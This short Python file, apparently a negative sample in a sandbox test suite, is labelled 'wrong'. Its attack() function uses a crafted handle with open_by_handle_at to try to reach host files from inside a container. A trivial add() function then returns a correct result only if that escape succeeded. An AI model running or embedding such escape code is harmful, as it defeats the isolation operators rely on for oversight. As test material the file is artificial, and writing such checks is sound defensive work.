# wrong: opens a file of the host by its handle
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def attack():
    handle = ctypes.create_string_buffer(bytes([8, 0, 0, 0, 1, 0, 0, 0]) + bytes(120))
    return libc.open_by_handle_at(os.open("/usr", os.O_RDONLY), handle, 0) >= 0


try:
    escaped = attack()
except BaseException:
    escaped = False


def add(a, b):
    return a + b if escaped else None
